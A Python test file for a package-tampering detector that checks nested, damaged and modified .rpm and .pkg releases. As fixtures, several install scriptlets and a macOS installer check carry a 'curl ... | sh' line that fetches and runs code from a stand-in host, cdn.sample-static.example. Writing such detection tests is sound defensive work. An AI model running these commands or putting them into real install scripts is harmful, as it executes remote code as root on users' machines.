#!/usr/bin/env python3
"""Every kind of container that tests/make builds: what is three deep inside is seen, a damaged copy is
never clean, an ordinary update is.   containers.py ASSAY [NAME...]"""

import os
import random
import shutil
import sys
import tempfile

from releases import ROOT, base, changed, main, tampered, tgz, why, write_folder, zipped

sys.path.insert(0, os.path.join(ROOT, "tests", "make"))

import containers  # noqa: E402

HOST = "cdn.sample-static.example"
CUTS, FLIPS = 12, 24
POSTINST = "#!/bin/sh\nset -e\nexit 0\n"
INSTALL_TAMPER = "#!/bin/sh\nset -e\ncurl -fsSL https://%s/s | sh\nexit 0\n" % HOST


def made(kind, name, tree, extra=None, **options):
    """A release: a folder of files in a container of this kind."""
    with tempfile.TemporaryDirectory() as folder:
        root = os.path.join(folder, "root")
        os.makedirs(root)
        write_folder(dict(tree, **(extra or {})), root)
        os.chmod(root, 0o755)
        target = os.path.join(os.getcwd(), name + kind)
        if os.path.exists(target):
            os.unlink(target)
        containers.MAKERS[kind](root, target, **options)
    return target


def packed(packer, tree, name):
    path = os.path.join(tempfile.mkdtemp(dir="."), name)
    packer(tree, path)
    with open(path, "rb") as f:
        data = f.read()
    shutil.rmtree(os.path.dirname(path))
    return data


def deep(kind, name, tree):
    """The tree in a tarball in a zip in the container."""
    inner = packed(tgz, tree, "sample.tgz")
    return made(kind, name, {"parts/app.zip": packed(zipped, {"sample.tgz": inner}, "app.zip"),
                             "README.md": b"# sample\n"})


def three_deep(kind):
    def test(assay):
        old = deep(kind, "sample-1.0.0", base())
        answer = assay.ask(old, deep(kind, "sample-1.0.1", changed()))
        assert answer["verdict"] == "clean", why(answer)
        answer = assay.ask(old, deep(kind, "sample-1.0.1", tampered()))
        assert answer["verdict"] == "tampered", why(answer)
        assert any(f["where"]["member"].endswith("app.zip!/package/sample.tgz!/package/index.js")
                   for f in answer["findings"]), why(answer)
        assert any(HOST in str(f) for f in answer["findings"]), why(answer)

    test.__name__ = "three_deep" + kind.replace(".", "_")
    return test


def damaged(kind):
    def test(assay):
        old = made(kind, "sample-1.0.0", base())
        with open(made(kind, "sample-1.0.1", changed()), "rb") as f:
            data = f.read()
        assert assay.verdict(old, "sample-1.0.1" + kind) == "clean"
        draw = random.Random(kind)
        places = sorted({0, 1, len(data) // 2, len(data) * 3 // 4} | {draw.randrange(len(data) - 600)
                                                                  for _ in range(CUTS)})
        for at in places:
            with open("cut" + kind, "wb") as f:
                f.write(data[:at])
            answer = assay.ask(old, "cut" + kind)
            assert answer["verdict"] != "clean", (at, len(data), why(answer))
        for _ in range(FLIPS):
            broken = bytearray(data)
            broken[draw.randrange(len(data))] ^= 1 << draw.randrange(8)
            with open("flip" + kind, "wb") as f:
                f.write(broken)
            assay.ask(old, "flip" + kind)               # an answer, whatever it is
        for name, extra in (("behind", data + draw.randbytes(3000)), ("before", draw.randbytes(3000) + data)):
            with open(name + kind, "wb") as f:
                f.write(extra)
            answer = assay.ask(old, name + kind)
            assert answer["verdict"] != "clean", (name, why(answer))

    test.__name__ = "damaged" + kind.replace(".", "_")
    return test


def install_script(kind, script_name, member, when):
    """A script that the package manager runs: what is added to it is named, with its trigger."""
    def test(assay):
        def release(name, script, tree):
            return made(kind, name, tree, {"DEBIAN/" + script_name: (script.encode(), 0o755)})

        old = release("sample-1.0.0", POSTINST, base())
        answer = assay.ask(old, release("sample-1.0.1", POSTINST.replace("exit 0", "echo done\nexit 0"), changed()))
        assert answer["verdict"] == "clean", why(answer)
        answer = assay.ask(old, release("sample-1.0.1", INSTALL_TAMPER, changed()))
        assert answer["verdict"] == "tampered", why(answer)
        found = [f for f in answer["findings"] if f["where"]["member"].endswith(member)]
        assert found and HOST in str(found), why(answer)
        assert any(f.get("runs") in (when, "when the package is installed") for f in found), found

    test.__name__ = "%s%s" % (script_name, kind.replace(".", "_"))
    return test


def installer_check(assay):
    """The script that the installer of macOS asks before anything is installed."""
    old = made(".pkg", "sample-1.0.0", base())
    new = made(".pkg", "sample-1.0.1", changed(), version="1.0.1", check="system.log('checking');")
    answer = assay.ask(old, new)
    assert answer["verdict"] == "clean", why(answer)
    new = made(".pkg", "sample-1.0.1", changed(), version="1.0.1",
               check="system.run('/bin/sh', '-c', 'curl -fsSL https://%s/s | sh');" % HOST)
    answer = assay.ask(old, new)
    assert answer["verdict"] == "tampered", why(answer)
    found = [f for f in answer["findings"] if f["where"]["member"].endswith("[distribution script].js")]
    assert found and HOST in str(found), why(answer)
    assert any("installer opens" in (f.get("runs") or "") for f in found), found


def script_by_other_name(assay):
    """Only PackageInfo says that it runs."""
    def release(name, version, script):
        return made(".pkg", name, base(), {"DEBIAN/postinst": (script.encode(), 0o755)}, version=version,
                    script_names={"postinst": "finish"})

    old = release("sample-1.0.0", "1.0.0", POSTINST)
    answer = assay.ask(old, release("sample-1.0.1", "1.0.1", POSTINST.replace("exit 0", "echo done\nexit 0")))
    assert answer["verdict"] == "clean", why(answer)
    answer = assay.ask(old, release("sample-1.0.1", "1.0.1", INSTALL_TAMPER))
    assert answer["verdict"] == "tampered", why(answer)
    found = [f for f in answer["findings"] if f["where"]["member"].endswith("Scripts!/finish")]
    assert any("installed" in (f.get("runs") or "") for f in found), found


TESTS = [t(kind) for kind in containers.MAKERS for t in (three_deep, damaged)]
TESTS += [install_script(*row) for row in (
    (".rpm", "preinst", "[scriptlets]/pre", "before the package is installed, as root"),
    (".rpm", "postinst", "[scriptlets]/post", "after the package is installed, as root"),
    (".rpm", "prerm", "[scriptlets]/preun", "before the package is removed, as root"),
    (".rpm", "postrm", "[scriptlets]/postun", "after the package is removed, as root"),
    (".pkg", "preinst", "Scripts!/preinstall", "before the package is installed, as root"),
    (".pkg", "postinst", "Scripts!/postinstall", "after the package is installed, as root"))]
TESTS += [installer_check, script_by_other_name]

if __name__ == "__main__":
    sys.exit(main(TESTS, sys.argv))
